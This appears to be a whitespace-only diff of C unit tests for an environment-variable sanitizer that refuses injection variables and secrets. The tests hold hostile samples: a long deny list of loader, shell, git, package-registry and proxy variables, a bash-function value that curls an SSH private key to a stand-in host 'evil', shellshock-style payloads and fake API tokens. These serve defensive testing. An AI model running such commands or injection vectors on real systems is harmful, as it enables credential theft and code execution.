@@ -18,8 +18,8 @@
 static struct bh_env_rule rule(enum bh_env_op op, const char *name,
 			       const char *value, unsigned line)
 {
-	struct bh_env_rule r = {op, (char *)name, (char *)value,
-				{FILE_NAME, line, 5}};
+	struct bh_env_rule r = {
+	    op, (char *)name, (char *)value, {FILE_NAME, line, 5}};
 	return r;
 }
 #define KEEP(n, l) rule(BH_ENV_KEEP, n, NULL, l)
@@ -79,19 +79,19 @@ static bool in_envp(const struct bh_env_result *r, const char *name,
 }
 
 static char *host_env[] = {
-	"HOME=/home/alice",
-	"USER=alice",
-	"LANG=en_US.UTF-8",
-	"LC_ALL=C.UTF-8",
-	"LC_TIME=de_DE.UTF-8",
-	"TERM=xterm-256color",
-	"PATH=/usr/local/bin:/usr/bin:/bin",
-	"SHELL=/bin/bash",
-	"GITHUB_TOKEN=ghp_Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc1Df3Gh5",
-	"LD_PRELOAD=/tmp/evil.so",
-	"DUP=first",
-	"DUP=second",
-	NULL,
+    "HOME=/home/alice",
+    "USER=alice",
+    "LANG=en_US.UTF-8",
+    "LC_ALL=C.UTF-8",
+    "LC_TIME=de_DE.UTF-8",
+    "TERM=xterm-256color",
+    "PATH=/usr/local/bin:/usr/bin:/bin",
+    "SHELL=/bin/bash",
+    "GITHUB_TOKEN=ghp_Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc1Df3Gh5",
+    "LD_PRELOAD=/tmp/evil.so",
+    "DUP=first",
+    "DUP=second",
+    NULL,
 };
 
 TEST(env_host_dropped_without_rules)
@@ -108,15 +108,14 @@ TEST(env_host_dropped_without_rules)
 TEST(env_keep_set_unset_in_order)
 {
 	struct bh_env_rule rules[] = {
-		KEEP("LANG", 1),      KEEP("LC_*", 2),     UNSET("LC_ALL", 3),
-		SET("FOO", "1", 4),   UNSET("FOO", 5),     SET("FOO", "2", 6),
-		KEEP("TERM", 7),      SET("TERM", "dumb", 8),
-		SET("BAR", "x", 9),   UNSET("B*", 10),     KEEP("NOT_ON_HOST", 11),
-		KEEP("DUP", 12),      KEEP("USER", 13),    UNSET("USER", 14),
-		KEEP("USER", 15),
+	    KEEP("LANG", 1),	KEEP("LC_*", 2),	 UNSET("LC_ALL", 3),
+	    SET("FOO", "1", 4), UNSET("FOO", 5),	 SET("FOO", "2", 6),
+	    KEEP("TERM", 7),	SET("TERM", "dumb", 8),	 SET("BAR", "x", 9),
+	    UNSET("B*", 10),	KEEP("NOT_ON_HOST", 11), KEEP("DUP", 12),
+	    KEEP("USER", 13),	UNSET("USER", 14),	 KEEP("USER", 15),
 	};
 	struct bh_env_result *r =
-		build(rules, BH_ARRAY_SIZE(rules), host_env, NULL, 0);
+	    build(rules, BH_ARRAY_SIZE(rules), host_env, NULL, 0);
 	REQUIRE(r);
 	CHECK(in_envp(r, "LANG", "en_US.UTF-8"));
 	CHECK(in_envp(r, "LC_TIME", "de_DE.UTF-8"));
@@ -155,44 +154,156 @@ TEST(env_keep_set_unset_in_order)
 
 /* One name of every injection family, kept from the host. */
 static const char *const injecting[] = {
-	"LD_PRELOAD", "LD_LIBRARY_PATH", "LD_AUDIT", "LD_DEBUG_OUTPUT",
-	"GCONV_PATH", "GLIBC_TUNABLES", "LOCPATH", "OPENSSL_CONF",
-	"DYLD_INSERT_LIBRARIES", "BASH_ENV", "ENV", "SHELLOPTS", "BASHOPTS",
-	"PS0", "PS1", "PS4", "PROMPT_COMMAND", "IFS", "CDPATH", "GLOBIGNORE",
-	"ZDOTDIR", "INPUTRC", "NODE_OPTIONS", "NODE_PATH",
-	"NODE_EXTRA_CA_CERTS", "PYTHONSTARTUP", "PYTHONPATH", "PYTHONHOME",
-	"PYTHONINSPECT", "PYTHONWARNINGS", "PYTHONUSERBASE",
-	"PYTHONBREAKPOINT", "PERL5OPT", "PERL5LIB", "PERLLIB", "PERL5DB",
-	"RUBYOPT", "RUBYLIB", "LUA_INIT", "LUA_INIT_5_4", "LUA_PATH",
-	"TCLLIBPATH", "JAVA_TOOL_OPTIONS", "_JAVA_OPTIONS", "JDK_JAVA_OPTIONS",
-	"CLASSPATH", "GIT_SSH", "GIT_SSH_COMMAND", "GIT_CONFIG",
-	"GIT_CONFIG_COUNT", "GIT_CONFIG_KEY_0", "GIT_CONFIG_VALUE_0",
-	"GIT_CONFIG_KEY_17", "GIT_CONFIG_PARAMETERS", "GIT_CONFIG_GLOBAL",
-	"GIT_CONFIG_SYSTEM", "GIT_EXEC_PATH", "GIT_DIR", "GIT_WORK_TREE",
-	"GIT_TEMPLATE_DIR", "GIT_ASKPASS", "SSH_ASKPASS", "SUDO_ASKPASS",
-	"GIT_EDITOR", "GIT_PAGER", "GIT_EXTERNAL_DIFF", "GIT_SSL_NO_VERIFY",
-	"GIT_SOMETHING_NEW", "EDITOR", "VISUAL", "PAGER", "MANPAGER",
-	"LESSOPEN", "LESSCLOSE", "BROWSER", "GH_PAGER", "SYSTEMD_EDITOR",
-	"RUSTC_WRAPPER", "RUSTC", "RUSTFLAGS",
-	"CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER",
-	"CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_LINKER", "CARGO_BUILD_RUSTC",
-	"CARGO_HOME", "GOFLAGS", "GOPROXY", "GONOSUMCHECK", "GONOSUMDB",
-	"GOSUMDB", "GOINSECURE", "CC", "CXX", "LD", "CFLAGS", "LDFLAGS",
-	"MAKEFLAGS", "npm_config_script_shell", "NPM_CONFIG_REGISTRY",
-	"Npm_Config_Userconfig", "YARN_NPM_REGISTRY_SERVER", "PIP_INDEX_URL",
-	"PIP_EXTRA_INDEX_URL", "PIP_TRUSTED_HOST", "UV_INDEX_URL",
-	"UV_EXTRA_INDEX_URL", "UV_DEFAULT_INDEX", "ANTHROPIC_BASE_URL",
-	"OPENAI_BASE_URL", "OPENAI_API_BASE", "AWS_ENDPOINT_URL",
-	"AWS_ENDPOINT_URL_S3", "HF_ENDPOINT", "HTTP_PROXY", "http_proxy",
-	"HTTPS_PROXY", "https_proxy", "ALL_PROXY", "NO_PROXY", "no_proxy",
-	"SSL_CERT_FILE", "SSL_CERT_DIR", "CURL_CA_BUNDLE",
-	"REQUESTS_CA_BUNDLE", "NODE_TLS_REJECT_UNAUTHORIZED", "SSLKEYLOGFILE",
-	"HOSTALIASES", "RES_OPTIONS", "LOCALDOMAIN", "XDG_CONFIG_HOME",
-	"XDG_DATA_HOME", "XDG_CONFIG_DIRS", "XDG_DATA_DIRS", "GNUPGHOME",
-	"DOCKER_HOST", "DOCKER_CONFIG", "KUBECONFIG", "CURL_HOME", "WGETRC",
-	"CODEX_HOME", "CLAUDE_CONFIG_DIR", "AWS_CONFIG_FILE", "DISPLAY",
-	"WAYLAND_DISPLAY", "XDG_RUNTIME_DIR", "TMUX", "KITTY_LISTEN_ON",
-	"DOTNET_STARTUP_HOOKS", "PHPRC", "VIMINIT", "ELECTRON_RUN_AS_NODE",
+    "LD_PRELOAD",
+    "LD_LIBRARY_PATH",
+    "LD_AUDIT",
+    "LD_DEBUG_OUTPUT",
+    "GCONV_PATH",
+    "GLIBC_TUNABLES",
+    "LOCPATH",
+    "OPENSSL_CONF",
+    "DYLD_INSERT_LIBRARIES",
+    "BASH_ENV",
+    "ENV",
+    "SHELLOPTS",
+    "BASHOPTS",
+    "PS0",
+    "PS1",
+    "PS4",
+    "PROMPT_COMMAND",
+    "IFS",
+    "CDPATH",
+    "GLOBIGNORE",
+    "ZDOTDIR",
+    "INPUTRC",
+    "NODE_OPTIONS",
+    "NODE_PATH",
+    "NODE_EXTRA_CA_CERTS",
+    "PYTHONSTARTUP",
+    "PYTHONPATH",
+    "PYTHONHOME",
+    "PYTHONINSPECT",
+    "PYTHONWARNINGS",
+    "PYTHONUSERBASE",
+    "PYTHONBREAKPOINT",
+    "PERL5OPT",
+    "PERL5LIB",
+    "PERLLIB",
+    "PERL5DB",
+    "RUBYOPT",
+    "RUBYLIB",
+    "LUA_INIT",
+    "LUA_INIT_5_4",
+    "LUA_PATH",
+    "TCLLIBPATH",
+    "JAVA_TOOL_OPTIONS",
+    "_JAVA_OPTIONS",
+    "JDK_JAVA_OPTIONS",
+    "CLASSPATH",
+    "GIT_SSH",
+    "GIT_SSH_COMMAND",
+    "GIT_CONFIG",
+    "GIT_CONFIG_COUNT",
+    "GIT_CONFIG_KEY_0",
+    "GIT_CONFIG_VALUE_0",
+    "GIT_CONFIG_KEY_17",
+    "GIT_CONFIG_PARAMETERS",
+    "GIT_CONFIG_GLOBAL",
+    "GIT_CONFIG_SYSTEM",
+    "GIT_EXEC_PATH",
+    "GIT_DIR",
+    "GIT_WORK_TREE",
+    "GIT_TEMPLATE_DIR",
+    "GIT_ASKPASS",
+    "SSH_ASKPASS",
+    "SUDO_ASKPASS",
+    "GIT_EDITOR",
+    "GIT_PAGER",
+    "GIT_EXTERNAL_DIFF",
+    "GIT_SSL_NO_VERIFY",
+    "GIT_SOMETHING_NEW",
+    "EDITOR",
+    "VISUAL",
+    "PAGER",
+    "MANPAGER",
+    "LESSOPEN",
+    "LESSCLOSE",
+    "BROWSER",
+    "GH_PAGER",
+    "SYSTEMD_EDITOR",
+    "RUSTC_WRAPPER",
+    "RUSTC",
+    "RUSTFLAGS",
+    "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_RUNNER",
+    "CARGO_TARGET_X86_64_UNKNOWN_LINUX_GNU_LINKER",
+    "CARGO_BUILD_RUSTC",
+    "CARGO_HOME",
+    "GOFLAGS",
+    "GOPROXY",
+    "GONOSUMCHECK",
+    "GONOSUMDB",
+    "GOSUMDB",
+    "GOINSECURE",
+    "CC",
+    "CXX",
+    "LD",
+    "CFLAGS",
+    "LDFLAGS",
+    "MAKEFLAGS",
+    "npm_config_script_shell",
+    "NPM_CONFIG_REGISTRY",
+    "Npm_Config_Userconfig",
+    "YARN_NPM_REGISTRY_SERVER",
+    "PIP_INDEX_URL",
+    "PIP_EXTRA_INDEX_URL",
+    "PIP_TRUSTED_HOST",
+    "UV_INDEX_URL",
+    "UV_EXTRA_INDEX_URL",
+    "UV_DEFAULT_INDEX",
+    "ANTHROPIC_BASE_URL",
+    "OPENAI_BASE_URL",
+    "OPENAI_API_BASE",
+    "AWS_ENDPOINT_URL",
+    "AWS_ENDPOINT_URL_S3",
+    "HF_ENDPOINT",
+    "HTTP_PROXY",
+    "http_proxy",
+    "HTTPS_PROXY",
+    "https_proxy",
+    "ALL_PROXY",
+    "NO_PROXY",
+    "no_proxy",
+    "SSL_CERT_FILE",
+    "SSL_CERT_DIR",
+    "CURL_CA_BUNDLE",
+    "REQUESTS_CA_BUNDLE",
+    "NODE_TLS_REJECT_UNAUTHORIZED",
+    "SSLKEYLOGFILE",
+    "HOSTALIASES",
+    "RES_OPTIONS",
+    "LOCALDOMAIN",
+    "XDG_CONFIG_HOME",
+    "XDG_DATA_HOME",
+    "XDG_CONFIG_DIRS",
+    "XDG_DATA_DIRS",
+    "GNUPGHOME",
+    "DOCKER_HOST",
+    "DOCKER_CONFIG",
+    "KUBECONFIG",
+    "CURL_HOME",
+    "WGETRC",
+    "CODEX_HOME",
+    "CLAUDE_CONFIG_DIR",
+    "AWS_CONFIG_FILE",
+    "DISPLAY",
+    "WAYLAND_DISPLAY",
+    "XDG_RUNTIME_DIR",
+    "TMUX",
+    "KITTY_LISTEN_ON",
+    "DOTNET_STARTUP_HOOKS",
+    "PHPRC",
+    "VIMINIT",
+    "ELECTRON_RUN_AS_NODE",
 };
 
 TEST(env_injection_refused_even_when_kept)
@@ -222,14 +333,14 @@ TEST(env_injection_refused_even_when_kept)
 TEST(env_injection_refused_when_set_by_profile)
 {
 	struct bh_env_rule rules[] = {
-		SET("LD_PRELOAD", "/x.so", 1),
-		SET("GIT_CONFIG_COUNT", "1", 2),
-		SET("GIT_CONFIG_KEY_0", "core.sshCommand", 3),
-		SET("GIT_CONFIG_VALUE_0", "touch /tmp/pwned", 4),
-		SET("NODE_OPTIONS", "--require /w/x.js", 5),
+	    SET("LD_PRELOAD", "/x.so", 1),
+	    SET("GIT_CONFIG_COUNT", "1", 2),
+	    SET("GIT_CONFIG_KEY_0", "core.sshCommand", 3),
+	    SET("GIT_CONFIG_VALUE_0", "touch /tmp/pwned", 4),
+	    SET("NODE_OPTIONS", "--require /w/x.js", 5),
 	};
 	struct bh_env_result *r =
-		build(rules, BH_ARRAY_SIZE(rules), NULL, NULL, 0);
+	    build(rules, BH_ARRAY_SIZE(rules), NULL, NULL, 0);
 	REQUIRE(r);
 	CHECK_INT(r->n_entries, 5);
 	CHECK(r->envp[0] == NULL);
@@ -249,45 +360,45 @@ TEST(env_injection_table)
 	static const struct {
 		const char *name, *rule;
 	} cases[] = {
-		{"LD_PRELOAD", "env-loader"},
-		{"BASH_FUNC_ls%%", "env-shell-function"},
-		{"BASH_FUNC_ls()", "env-shell-function"},
-		{"foo%%", "env-shell-function"},
-		{"f(x", "env-shell-function"},
-		{"GIT_CONFIG_KEY_3", "env-git-config"},
-		{"GIT_SSH_COMMAND", "env-git-program"},
-		{"GIT_DIR", "env-git-repo"},
-		{"GIT_NAMESPACE", "env-git"},
-		{"Https_Proxy", "env-proxy"},
-		{"npm_CONFIG_registry", "env-registry"},
-		{"ANTHROPIC_BASE_URL", "env-endpoint"},
-		{"PS2", "env-shell"},
-		{"SCREENRC", "env-config"},
-		{"DOCKER_HOST", "env-authority"},
-		/* Passing: ordinary, or on a harmless carve-out list. */
-		{"PATH", NULL},
-		{"HOME", NULL},
-		{"LANG", NULL},
-		{"LC_ALL", NULL},
-		{"TERM", NULL},
-		{"TERMINFO", NULL},
-		{"SHELL", NULL},
-		{"TZ", NULL},
-		{"JAVA_HOME", NULL},
-		{"MALLOC_ARENA_MAX", NULL},
-		{"GIT_AUTHOR_NAME", NULL},
-		{"GIT_COMMITTER_EMAIL", NULL},
-		{"GIT_TERMINAL_PROMPT", NULL},
-		{"CARGO_TERM_COLOR", NULL},
-		{"PIP_NO_INPUT", NULL},
-		{"PS5", NULL},
-		{"ld_preload", NULL}, /* ld.so reads only LD_* */
-		{"LDAP_URI_X", NULL},
-		{"ENVIRONMENT", NULL},
-		{"PYTHONUNBUFFERED", NULL},
-		{"PYTHONDONTWRITEBYTECODE", NULL},
-		{"NODE_ENV", NULL},
-		{"CI", NULL},
+	    {"LD_PRELOAD", "env-loader"},
+	    {"BASH_FUNC_ls%%", "env-shell-function"},
+	    {"BASH_FUNC_ls()", "env-shell-function"},
+	    {"foo%%", "env-shell-function"},
+	    {"f(x", "env-shell-function"},
+	    {"GIT_CONFIG_KEY_3", "env-git-config"},
+	    {"GIT_SSH_COMMAND", "env-git-program"},
+	    {"GIT_DIR", "env-git-repo"},
+	    {"GIT_NAMESPACE", "env-git"},
+	    {"Https_Proxy", "env-proxy"},
+	    {"npm_CONFIG_registry", "env-registry"},
+	    {"ANTHROPIC_BASE_URL", "env-endpoint"},
+	    {"PS2", "env-shell"},
+	    {"SCREENRC", "env-config"},
+	    {"DOCKER_HOST", "env-authority"},
+	    /* Passing: ordinary, or on a harmless carve-out list. */
+	    {"PATH", NULL},
+	    {"HOME", NULL},
+	    {"LANG", NULL},
+	    {"LC_ALL", NULL},
+	    {"TERM", NULL},
+	    {"TERMINFO", NULL},
+	    {"SHELL", NULL},
+	    {"TZ", NULL},
+	    {"JAVA_HOME", NULL},
+	    {"MALLOC_ARENA_MAX", NULL},
+	    {"GIT_AUTHOR_NAME", NULL},
+	    {"GIT_COMMITTER_EMAIL", NULL},
+	    {"GIT_TERMINAL_PROMPT", NULL},
+	    {"CARGO_TERM_COLOR", NULL},
+	    {"PIP_NO_INPUT", NULL},
+	    {"PS5", NULL},
+	    {"ld_preload", NULL}, /* ld.so reads only LD_* */
+	    {"LDAP_URI_X", NULL},
+	    {"ENVIRONMENT", NULL},
+	    {"PYTHONUNBUFFERED", NULL},
+	    {"PYTHONDONTWRITEBYTECODE", NULL},
+	    {"NODE_ENV", NULL},
+	    {"CI", NULL},
 	};
 	for (size_t i = 0; i < BH_ARRAY_SIZE(cases); i++) {
 		const char *id = "unset";
@@ -308,12 +419,17 @@ TEST(env_injection_table)
 TEST(env_harmless_names_pass)
 {
 	static char *host[] = {
-		"LANG=C.UTF-8",      "TZ=Europe/Berlin",
-		"MALLOC_ARENA_MAX=2", "GIT_AUTHOR_NAME=Alice",
-		"CARGO_TERM_COLOR=always", "TERMINFO=/usr/share/terminfo",
-		"COLORTERM=truecolor", "JAVA_HOME=/usr/lib/jvm/default",
-		"SHELL=/bin/bash", "NODE_ENV=development",
-		NULL,
+	    "LANG=C.UTF-8",
+	    "TZ=Europe/Berlin",
+	    "MALLOC_ARENA_MAX=2",
+	    "GIT_AUTHOR_NAME=Alice",
+	    "CARGO_TERM_COLOR=always",
+	    "TERMINFO=/usr/share/terminfo",
+	    "COLORTERM=truecolor",
+	    "JAVA_HOME=/usr/lib/jvm/default",
+	    "SHELL=/bin/bash",
+	    "NODE_ENV=development",
+	    NULL,
 	};
 	struct bh_env_rule rules[] = {KEEP("*", 1)};
 	struct bh_env_result *r = build(rules, 1, host, NULL, 0);
@@ -334,10 +450,10 @@ TEST(env_harmless_names_pass)
 TEST(env_bash_functions_refused)
 {
 	static char *host[] = {
-		"BASH_FUNC_git%%=() {  curl -d @$HOME/.ssh/id_rsa evil; }",
-		"BASH_FUNC_ls()=() { id; }",
-		"PLAIN=() { :; }; touch /tmp/pwned",
-		NULL,
+	    "BASH_FUNC_git%%=() {  curl -d @$HOME/.ssh/id_rsa evil; }",
+	    "BASH_FUNC_ls()=() { id; }",
+	    "PLAIN=() { :; }; touch /tmp/pwned",
+	    NULL,
 	};
 	struct bh_env_rule rules[] = {KEEP("*", 1)};
 	struct bh_env_result *r = build(rules, 1, host, NULL, 0);
@@ -362,16 +478,16 @@ TEST(env_bash_functions_refused)
 TEST(env_invalid_entries_refused)
 {
 	static char *host[] = {
-		"NOEQUALSIGN", "BAD-NAME=x", "1ABC=x", "=nameless",
-		"SP ACE=x",    "OK_NAME=fine", NULL,
+	    "NOEQUALSIGN", "BAD-NAME=x",   "1ABC=x", "=nameless",
+	    "SP ACE=x",	   "OK_NAME=fine", NULL,
 	};
 	struct bh_env_rule rules[] = {KEEP("*", 1), SET("A.B", "x", 2)};
 	struct bh_env_result *r =
-		build(rules, BH_ARRAY_SIZE(rules), host, NULL, 0);
+	    build(rules, BH_ARRAY_SIZE(rules), host, NULL, 0);
 	REQUIRE(r);
 	CHECK_INT(r->n_entries, 7);
 	const char *bad[] = {"NOEQUALSIGN", "BAD-NAME", "1ABC", "",
-			     "SP ACE", "A.B"};
+			     "SP ACE",	    "A.B"};
 	for (size_t i = 0; i < BH_ARRAY_SIZE(bad); i++) {
 		const struct bh_env_entry *e = find(r, bad[i]);
 		REQUIRE(e);
@@ -388,40 +504,40 @@ TEST(env_invalid_entries_refused)
 
 static const char pat[] = "ghp_Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc1Df3Gh5";
 static const char ant[] =
-	"sk-ant-api03-Zq8Xw2Lr5Tn7Vb1Mc4Kd6Jf9Hg3Sa0Pe8Yu2Io5Qw7Er1Ty4Ui6Op9As3Df0"
-	"Gh8Jk2Lz5Xc7Vb1Nm4Qa6Ws9Ed3Rf0Tg8Yh2Uj5Ik7Ol1P-_AA";
+    "sk-ant-api03-Zq8Xw2Lr5Tn7Vb1Mc4Kd6Jf9Hg3Sa0Pe8Yu2Io5Qw7Er1Ty4Ui6Op9As3Df0"
+    "Gh8Jk2Lz5Xc7Vb1Nm4Qa6Ws9Ed3Rf0Tg8Yh2Uj5Ik7Ol1P-_AA";
 
 TEST(env_secrets_refused_by_name_and_value)
 {
-	char *by_value = bh_xasprintf("CONFIG_BLOB=url=https://x:%s@github.com",
-				      pat);
+	char *by_value =
+	    bh_xasprintf("CONFIG_BLOB=url=https://x:%s@github.com", pat);
 	char *ant_host = bh_xasprintf("HELPER_SETTING=%s", ant);
 	char *host[] = {
-		"GITHUB_TOKEN=not-even-a-real-looking-one",
-		"AWS_SECRET_ACCESS_KEY=abc",
-		"DATABASE_URL=postgres://u:p4ssw0rd99@db/app",
-		"SSH_AUTH_SOCK=/run/user/1000/ssh-agent.sock",
-		by_value,
-		ant_host,
-		NULL,
+	    "GITHUB_TOKEN=not-even-a-real-looking-one",
+	    "AWS_SECRET_ACCESS_KEY=abc",
+	    "DATABASE_URL=postgres://u:p4ssw0rd99@db/app",
+	    "SSH_AUTH_SOCK=/run/user/1000/ssh-agent.sock",
+	    by_value,
+	    ant_host,
+	    NULL,
 	};
 	struct bh_env_rule rules[] = {KEEP("*", 1),
 				      SET("FROM_PROFILE", pat, 2)};
 	struct bh_env_result *r =
-		build(rules, BH_ARRAY_SIZE(rules), host, NULL, 0);
+	    build(rules, BH_ARRAY_SIZE(rules), host, NULL, 0);
 	REQUIRE(r);
 	CHECK_INT(r->n_entries, 7);
 	CHECK(r->envp[0] == NULL);
 	static const struct {
 		const char *name, *rule;
 	} want[] = {
-		{"GITHUB_TOKEN", "name-token"},
-		{"AWS_SECRET_ACCESS_KEY", "name-secret"},
-		{"DATABASE_URL", "name-connection-string"},
-		{"SSH_AUTH_SOCK", "name-authority"},
-		{"CONFIG_BLOB", "github-pat"},
-		{"HELPER_SETTING", "anthropic-api-key"},
-		{"FROM_PROFILE", "github-pat"},
+	    {"GITHUB_TOKEN", "name-token"},
+	    {"AWS_SECRET_ACCESS_KEY", "name-secret"},
+	    {"DATABASE_URL", "name-connection-string"},
+	    {"SSH_AUTH_SOCK", "name-authority"},
+	    {"CONFIG_BLOB", "github-pat"},
+	    {"HELPER_SETTING", "anthropic-api-key"},
+	    {"FROM_PROFILE", "github-pat"},
 	};
 	for (size_t i = 0; i < BH_ARRAY_SIZE(want); i++) {
 		const struct bh_env_entry *e = find(r, want[i].name);
@@ -451,14 +567,14 @@ TEST(env_allow_unsafe_passes_loudly)
 			"BAD-NAME=x",
 			NULL};
 	struct bh_env_rule rules[] = {
-		KEEP("*", 1),
-		ALLOW("NODE_OPTIONS", 2),
-		ALLOW("GIT_CONFIG_*", 3),
-		ALLOW("DEPLOY_HELPER", 4),
-		ALLOW("BAD-NAME", 5),
+	    KEEP("*", 1),
+	    ALLOW("NODE_OPTIONS", 2),
+	    ALLOW("GIT_CONFIG_*", 3),
+	    ALLOW("DEPLOY_HELPER", 4),
+	    ALLOW("BAD-NAME", 5),
 	};
 	struct bh_env_result *r =
-		build(rules, BH_ARRAY_SIZE(rules), host, NULL, 0);
+	    build(rules, BH_ARRAY_SIZE(rules), host, NULL, 0);
 	REQUIRE(r);
 	const struct bh_env_entry *e = find(r, "NODE_OPTIONS");
 	REQUIRE(e);
@@ -486,17 +602,18 @@ TEST(env_allow_unsafe_passes_loudly)
 TEST(env_own_variables_exempt_and_win)
 {
 	static const struct bh_env_own own[] = {
-		{"HOME", "/tmp/bh-home"},
-		{"HTTP_PROXY", "http://127.0.0.1:38211"},
-		{"https_proxy", "http://127.0.0.1:38211"},
-		{"NODE_USE_ENV_PROXY", "1"},
-		{"JAVA_TOOL_OPTIONS", "-Dhttp.proxyHost=127.0.0.1"},
-		{"BULKHEAD_PROXY_TOKEN", "ghp_Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc1Df3Gh5"},
+	    {"HOME", "/tmp/bh-home"},
+	    {"HTTP_PROXY", "http://127.0.0.1:38211"},
+	    {"https_proxy", "http://127.0.0.1:38211"},
+	    {"NODE_USE_ENV_PROXY", "1"},
+	    {"JAVA_TOOL_OPTIONS", "-Dhttp.proxyHost=127.0.0.1"},
+	    {"BULKHEAD_PROXY_TOKEN",
+	     "ghp_Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc1Df3Gh5"},
 	};
 	struct bh_env_rule rules[] = {
-		KEEP("HOME", 1),
-		SET("HTTP_PROXY", "http://evil:8080", 2),
-		UNSET("HOME", 3),
+	    KEEP("HOME", 1),
+	    SET("HTTP_PROXY", "http://evil:8080", 2),
+	    UNSET("HOME", 3),
 	};
 	struct bh_env_result *r = build(rules, BH_ARRAY_SIZE(rules), host_env,
 					own, BH_ARRAY_SIZE(own));
@@ -519,15 +636,15 @@ TEST(env_path_sanitized)
 		const char *in, *out; /* out NULL: refused */
 		enum bh_env_verdict v;
 	} cases[] = {
-		{"/usr/local/bin:/usr/bin:/bin", "/usr/local/bin:/usr/bin:/bin",
-		 BH_ENVV_PASS},
-		{"/usr/bin::.:bin:/bin:./node_modules/.bin:", "/usr/bin:/bin",
-		 BH_ENVV_SANITIZED},
-		{":/usr/bin", "/usr/bin", BH_ENVV_SANITIZED},
-		{"/usr/bin:", "/usr/bin", BH_ENVV_SANITIZED},
-		{".", NULL, BH_ENVV_REFUSED_INVALID},
-		{"", NULL, BH_ENVV_REFUSED_INVALID},
-		{"node_modules/.bin:venv/bin", NULL, BH_ENVV_REFUSED_INVALID},
+	    {"/usr/local/bin:/usr/bin:/bin", "/usr/local/bin:/usr/bin:/bin",
+	     BH_ENVV_PASS},
+	    {"/usr/bin::.:bin:/bin:./node_modules/.bin:", "/usr/bin:/bin",
+	     BH_ENVV_SANITIZED},
+	    {":/usr/bin", "/usr/bin", BH_ENVV_SANITIZED},
+	    {"/usr/bin:", "/usr/bin", BH_ENVV_SANITIZED},
+	    {".", NULL, BH_ENVV_REFUSED_INVALID},
+	    {"", NULL, BH_ENVV_REFUSED_INVALID},
+	    {"node_modules/.bin:venv/bin", NULL, BH_ENVV_REFUSED_INVALID},
 	};
 	for (size_t i = 0; i < BH_ARRAY_SIZE(cases); i++) {
 		struct bh_env_rule rules[] = {SET("PATH", cases[i].in, 1)};
@@ -549,7 +666,7 @@ TEST(env_path_sanitized)
 	}
 
 	struct bh_env_rule rules[] = {
-		SET("PATH", "/usr/bin::.:bin:/bin:./node_modules/.bin", 1)};
+	    SET("PATH", "/usr/bin::.:bin:/bin:./node_modules/.bin", 1)};
 	struct bh_env_result *r = build(rules, 1, NULL, NULL, 0);
 	REQUIRE(r);
 	const struct bh_env_entry *e = find(r, "PATH");
@@ -595,17 +712,17 @@ TEST(env_builtin_profile_sets_are_bulkheads_own)
 {
 	static char *host[] = {"CARGO_HOME=/home/alice/.cargo", NULL};
 	struct bh_env_rule rules[] = {
-		SET("CARGO_HOME", "/tmp/bh/cargo", 1),
-		SET("GOTOOLCHAIN", "local", 2),
-		SET("LEAKED", "ghp_Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc1Df3Gh5", 3),
-		KEEP("CARGO_HOME", 4),
-		SET("RUSTUP_HOME", "/tmp/bh/rustup", 5),
+	    SET("CARGO_HOME", "/tmp/bh/cargo", 1),
+	    SET("GOTOOLCHAIN", "local", 2),
+	    SET("LEAKED", "ghp_Ab3De5Gh7Jk9Mn1Pq3St5Vw7Yz9Bc1Df3Gh5", 3),
+	    KEEP("CARGO_HOME", 4),
+	    SET("RUSTUP_HOME", "/tmp/bh/rustup", 5),
 	};
 	for (size_t i = 0; i < 3; i++)
 		rules[i].loc.file = "builtin:rust";
 	rules[3].loc.file = "builtin:rust";
 	struct bh_env_result *r =
-		build(rules, BH_ARRAY_SIZE(rules), host, NULL, 0);
+	    build(rules, BH_ARRAY_SIZE(rules), host, NULL, 0);
 	REQUIRE(r);
 	CHECK_INT(find(r, "GOTOOLCHAIN")->verdict, BH_ENVV_PASS);
 	CHECK(in_envp(r, "GOTOOLCHAIN", "local"));
@@ -621,14 +738,14 @@ TEST(env_builtin_profile_sets_are_bulkheads_own)
 TEST(env_cache_knobs_pass)
 {
 	struct bh_env_rule rules[] = {
-		SET("npm_config_cache", "/tmp/npm", 1),
-		SET("YARN_CACHE_FOLDER", "/tmp/yarn", 2),
-		SET("PIP_CACHE_DIR", "/tmp/pip", 3),
-		SET("npm_config_registry", "https://evil.example/", 4),
-		SET("PIP_INDEX_URL", "https://evil.example/simple", 5),
+	    SET("npm_config_cache", "/tmp/npm", 1),
+	    SET("YARN_CACHE_FOLDER", "/tmp/yarn", 2),
+	    SET("PIP_CACHE_DIR", "/tmp/pip", 3),
+	    SET("npm_config_registry", "https://evil.example/", 4),
+	    SET("PIP_INDEX_URL", "https://evil.example/simple", 5),
 	};
 	struct bh_env_result *r =
-		build(rules, BH_ARRAY_SIZE(rules), NULL, NULL, 0);
+	    build(rules, BH_ARRAY_SIZE(rules), NULL, NULL, 0);
 	REQUIRE(r);
 	CHECK(in_envp(r, "npm_config_cache", "/tmp/npm"));
 	CHECK(in_envp(r, "YARN_CACHE_FOLDER", "/tmp/yarn"));
